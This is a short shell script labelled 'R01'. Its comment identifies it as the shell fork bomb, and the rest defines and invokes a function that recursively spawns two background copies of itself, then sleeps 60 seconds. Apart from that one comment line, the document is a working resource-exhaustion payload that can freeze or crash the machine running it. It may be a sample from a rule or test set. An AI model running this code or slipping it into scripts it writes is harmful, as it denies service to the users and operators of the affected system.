# R01: the fork bomb of the shell: each copy starts two more and none is waited for.
f() { f | f & }
f
sleep 60
